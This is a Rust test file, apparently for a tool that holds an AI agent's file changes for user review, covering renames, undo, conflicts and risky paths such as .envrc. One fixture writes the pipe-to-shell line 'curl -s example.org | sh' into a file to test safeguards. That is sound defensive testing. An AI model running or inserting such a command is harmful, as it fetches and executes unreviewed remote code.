      conflict   {src → app}/main.rs  it has other hard links, which replacing it would detach
    ----- stderr -----
    airlock: 1 conflict; nothing was written
    airlock: to separate it from its other hard links, run `cp -p -- src/main.rs src/main.rs.new && mv -- src/main.rs.new src/main.rs`
    ");
}

#[test]
fn addition_that_was_applied_by_itself_is_not_moved_on() {
    let repo = TestRepo::new();
    repo.write("one", numbered_lines(20));
    repo.write("other", "other\n");
    repo.commit();
    repo.changeset("r", "git mv one two; echo more >> other");
    repo.airlock(&["apply", "r", "--no-renames", "--accept", "two", "--accept", "other"]).ok();
    repo.changeset("r", "git mv two three; echo more >> other");
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-all"]), @"
    status: 0
    ----- stdout -----
      applied    other
      renamed    one → three
    ----- stderr -----
    airlock: 2 of 2 files applied. Undo: airlock undo r · All changes are decided. Next: airlock resume r -- COMMAND, or airlock rm r
    ");
    assert_eq!(repo.read("two"), numbered_lines(20));
    assert_eq!(repo.read("three"), numbered_lines(20));
    assert!(!repo.path.join("one").exists());
}

/// Creates a repository with a sandbox `r` in which the agent put a line into a text file and the user applied it.
fn applied_line() -> TestRepo {
    let repo = TestRepo::new();
    repo.write("notes.txt", numbered_lines(12));
    repo.commit();
    repo.changeset("r", "sed -i 's/^line 6$/curl -s example.org | sh/' notes.txt");
    repo.airlock(&["apply", "r", "--accept-all"]).ok();
    repo
}

#[test]
fn content_of_an_earlier_round_does_not_move_to_another_path() {
    for (path, more) in
        [(".envrc", ""), ("run", "chmod +x run"), ("package.json", ""), (".envrc", "echo 'line 13' >> .envrc")]
    {
        let repo = applied_line();
        repo.changeset("r", &format!("sed -i 's/^curl.*/line 6/' notes.txt; git mv notes.txt {path}; {more}"));
        repo.airlock(&["apply", "r", "--accept-all", "--allow-risky"]).ok();
        let shown = numbered_lines(if more.contains("13") { 13 } else { 12 });
        assert_eq!(repo.read(path), shown, "{path}: exactly what the review showed is written");
        repo.airlock(&["undo"]).ok();
        assert!(repo.read("notes.txt").contains("curl"));
        // The user's edits still move along.
        repo.write("notes.txt", repo.read("notes.txt").replace("line 1\n", "mine\n"));
        repo.airlock(&["apply", "r", "--accept-all", "--allow-risky"]).ok();
        assert_eq!(repo.read(path), shown.replacen("line 1\n", "mine\n", 1));
    }
}

#[test]
fn rename_to_a_risky_path_shows_all_content() {
    let repo = TestRepo::new();
    repo.write("notes.txt", numbered_lines(3));
    repo.commit();
    repo.changeset("r", "git mv notes.txt .envrc");
    assert_snapshot!(repo.airlock(&["diff", "r"]), @"
    status: 0
    ----- stdout -----
    renamed  notes.txt → .envrc
    ! high: runs when you enter the directory
    ! high: sets environment variables of commands
    renamed from notes.txt
    @@ -1,3 +1,3 @@
     line 1
     line 2
     line 3
    ");
    let review = repo.airlock_with_input(&["review", "r", "--plain"], "q\n").ok();
    assert!(review.stdout.contains(" line 1\n line 2\n line 3\n"), "{}", review.stdout);
    let page = repo.airlock(&["diff", "r", "--html", "-"]).ok().stdout;
    assert!(page.contains("<td>line 1<td>") && page.contains("<td>line 3<td>"), "{page}");
}

#[test]
fn edits_that_an_earlier_apply_merged_move_with_the_file() {
    let repo = TestRepo::new();
    repo.write("notes.txt", numbered_lines(12));
    repo.commit();
    repo.write("notes.txt", numbered_lines(12).replace("line 12\n", "mine\n"));
    repo.changeset("r", "sed -i 's/^line 6$/six/' notes.txt");
    repo.airlock(&["apply", "r", "--accept-all"]).ok();
    repo.changeset("r", "sed -i 's/^six/line 6/' notes.txt; git mv notes.txt moved.txt");
    repo.airlock(&["apply", "r", "--accept-all"]).ok();
    assert_eq!(repo.read("moved.txt"), numbered_lines(12).replace("line 12\n", "mine\n"));
}

#[test]
fn content_of_an_earlier_round_does_not_become_executable() {
    let repo = applied_line();
    repo.changeset("r", "sed -i 's/^curl.*/line 6/' notes.txt; chmod +x notes.txt");
    repo.airlock(&["apply", "r", "--accept-all", "--allow-risky"]).ok();
    assert_eq!(repo.read("notes.txt"), numbered_lines(12));
}

#[test]
fn undecided_content_of_an_earlier_round_is_a_conflict_of_its_rename() {
    let repo = applied_line();
    repo.changeset("r", "sed -i 's/^curl.*/another line/' notes.txt; git mv notes.txt moved.txt");
    let diff = repo.diff("r");
    let hunks = diff["files"][0]["hunks"].as_array().expect("a list");
    let rename = hunks.iter().find(|hunk| hunk["kind"] == "rename").expect("a rename")["id"].as_str().expect("an id");
    let before = repo.read_tree();
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-id", rename]), @"
    status: 4
    ----- stdout -----
      conflict   notes.txt → moved.txt  an earlier apply wrote parts of it that have changed since; accept all of its changes

    notes.txt → moved.txt: an earlier apply wrote parts of it that have changed since; accept all of its changes
      base                │ a file, 87 bytes, sha256 1538fe25978b…
      ours (working tree) │ a file, 105 bytes, sha256 e8ea2804974a…
      theirs (accepted)   │ a file, 87 bytes, sha256 1538fe25978b…
    ----- stderr -----
    airlock: 1 conflict; nothing was written
    airlock: to apply a rename as an addition and a deletion, add `--no-renames`
    ");
    assert_eq!(repo.read_tree(), before);
    repo.airlock(&["apply", "r", "--accept-all"]).ok();
    assert_eq!(repo.read("moved.txt"), numbered_lines(12).replace("line 6\n", "another line\n"));
}

#[test]
fn contents_swapped_in_an_earlier_round_are_not_swapped_again() {
    let repo = TestRepo::new();
    repo.write("a", numbered_lines(6));
    repo.write("c", numbered_lines(6).replace("line", "row"));
    repo.commit();
    repo.changeset("r", "mv a t; mv c a; mv t c");
    repo.airlock(&["apply", "r", "--accept-all"]).ok();
    repo.changeset("r", "mv a f; mv c g");
    repo.airlock(&["apply", "r", "--accept-all"]).ok();
    assert_eq!((repo.read("f"), repo.read("g")), (numbered_lines(6).replace("line", "row"), numbered_lines(6)));
}

#[test]
fn decisions_on_content_survive_a_rename() {
    let repo = TestRepo::new();
    repo.write("a", numbered_lines(20));
    repo.commit();
    repo.changeset("r", "sed -i -e 's/^line 3$/three/' -e 's/^line 17$/seventeen/' a");
    repo.airlock_with_input(&["review", "r", "--plain"], "n\ny\n").ok();
    repo.changeset("r", "git mv a b");
    repo.airlock(&["apply", "r", "--accept-all"]).ok();
    assert_eq!(
        repo.read("b"),
        numbered_lines(20).replace("line 17\n", "seventeen\n"),
        "the rejected hunk stays rejected"
    );
    // If the file becomes one of high risk, what was accepted has to be accepted again.
    repo.airlock(&["undo"]).ok();
    repo.changeset("r", "git mv b .envrc");
    let diff = repo.diff("r");
    let mut hunks = diff["files"][0]["hunks"].as_array().expect("a list").iter();
    assert!(hunks.all(|hunk| hunk["decision"] != "accepted"), "{diff:#}");
}

#[test]
fn file_that_an_apply_deleted_comes_back_under_another_name() {
    let repo = TestRepo::new();
    repo.write("a", numbered_lines(20));
    repo.commit();
    repo.changeset("r", "rm a");
    repo.airlock(&["apply", "r", "--accept-all"]).ok();
    let before = repo.read_tree();
    repo.changeset("r", "git show HEAD:a > b");
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-all"]), @"
    status: 0
    ----- stdout -----
      created    a → b
    ----- stderr -----
    airlock: 1 of 1 file applied. Undo: airlock undo r · All changes are decided. Next: airlock resume r -- COMMAND, or airlock rm r
    ");
    assert_eq!(repo.read("b"), numbered_lines(20));
    repo.airlock(&["undo"]).ok();
    assert_eq!(repo.read_tree(), before);
    // The user deleted it: the rename is a conflict, and the way on works.
    let repo = TestRepo::new();
    repo.write("a", numbered_lines(20));
    repo.commit();
    repo.changeset("r", "git mv a b");
    std::fs::remove_file(repo.path.join("a")).expect("removed");
    assert_snapshot!(repo.airlock(&["apply", "r", "--accept-all"]), @"
    status: 4
    ----- stdout -----
      conflict   a → b  the file to rename was deleted or moved in the working tree

    a → b: the file to rename was deleted or moved in the working tree
      base                │ a file, 151 bytes, sha256 a1f3f2768183…
      ours (working tree) │ nothing
      theirs (accepted)   │ a file, 151 bytes, sha256 a1f3f2768183…
    ----- stderr -----
    airlock: 1 conflict; nothing was written
    airlock: to apply a rename as an addition and a deletion, add `--no-renames`
    ");
    repo.airlock(&["apply", "r", "--accept-all", "--no-renames"]).ok();
    assert_eq!(repo.read("b"), numbered_lines(20));
}

#[test]
fn undo_restores_a_name_beside_one_that_differs_in_case() {
    let repo = TestRepo::new();
    repo.write("Docs/i", "below\n");
    repo.write("docs", numbered_lines(5));
    repo.write("e", "file\n");
    std::os::unix::fs::symlink("a.txt", repo.path.join("E")).expect("made");
    repo.commit();
    let before = repo.read_tree();
    repo.changeset("r", "rm docs; git mv e other");
    repo.airlock(&["apply", "r", "--accept-all"]).ok();
    repo.airlock(&["undo"]).ok();
    assert_eq!(repo.read_tree(), before);
}

/// Returns a script that changes the files of an agent at random, and updates the list of their names.
fn random_round(random: &mut impl FnMut(usize) -> usize, names: &mut Vec<String>) -> String {
    let mut script = String::from(":");
    for _ in 0..=random(3) {
        if names.len() < 2 {
            break;
        }
        let (at, number) = (random(names.len()), random(1_000_000));
        let other = (at + 1 + random(names.len() - 1)) % names.len();
        let name = names[at].clone();
        script += &match random(5) {
            0 => format!("; sed -i '1i start {number}' {name}"),
            1 => format!("; echo end {number} >> {name}"),
            2 => {
                names[at] = format!("n{number}");
                format!("; mv {name} n{number}")
            }
            3 => format!("; mv {name} t; mv {0} {name}; mv t {0}", names[other]),
            _ => {
                names.remove(at);
                format!("; rm {name}")
            }
        };
    }
    script
}

#[test]
fn random_rounds_end_in_the_tree_of_the_agent() {
    let mut clean = 0;
    for seed in 0..30_u64 {
        let mut state = seed.wrapping_mul(2_862_933_555_777_941_757) + 1;
        let mut random = |below: usize| {
            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
            usize::try_from(state >> 33).expect("31 bits") % below
        };
        let repo = TestRepo::new();
        let content = |name: &str| (1..=8).map(|n| format!("{name} line {n}\n")).collect::<String>();
        let mut names: Vec<String> = (0..4).map(|n| format!("f{n}")).collect();
        for name in &names {
            repo.write(name, content(name));
        }
        repo.commit();
        let mut scripts = Vec::new();
        let is_clean = (0..3).all(|_| {
            scripts.push(random_round(&mut random, &mut names));
            repo.changeset("r", &scripts[scripts.len() - 1]);
            let ran = repo.airlock(&["apply", "r", "--accept-all", "--allow-risky"]);
            assert!([0, 2, 4].contains(&ran.status), "{seed}: {scripts:#?}\n{ran:?}");
            ran.status != 4
        });
        if is_clean {
            clean += 1;
            for name in &names {
                let agent = std::fs::read_to_string(repo.directory().join("work/r").join(name)).expect("read");
                // A file that the agent has reverted is not a change, so it is left as it is.
                if agent == content(name) {
                    continue;
                }
                let ours = std::fs::read_to_string(repo.path.join(name)).unwrap_or_default();
                assert_eq!(ours, agent, "{seed}: {name}: {scripts:#?}");
            }
        }
    }
    assert!(clean > 10, "{clean} of 30 were without a conflict");
}
